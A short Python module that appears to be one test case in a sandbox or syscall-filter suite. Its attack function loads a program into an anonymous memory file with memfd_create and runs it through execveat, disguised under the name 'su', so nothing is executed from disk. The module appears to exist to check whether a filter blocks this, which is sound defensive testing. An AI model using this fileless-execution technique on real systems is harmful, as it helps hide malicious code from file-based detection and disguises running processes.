"""Become a program that lies in memory only."""

from __future__ import annotations

import ctypes
import os
from typing import Any

EVIDENCE = "ran"
STOPPED_BY = "filter"
MEANS = "it runs code that no file holds"
NEEDS = ("program",)


def attack(at: Any) -> None:
    with open(at.program, "rb") as stream:
        content = stream.read()
    handle = os.memfd_create("program")
    with os.fdopen(handle, "wb", closefd=False) as stream:
        stream.write(content)
    arguments = (ctypes.c_char_p * 3)(b"su", b"--help", None)
    at.call("execveat", handle, b"", arguments, None, 0x1000)
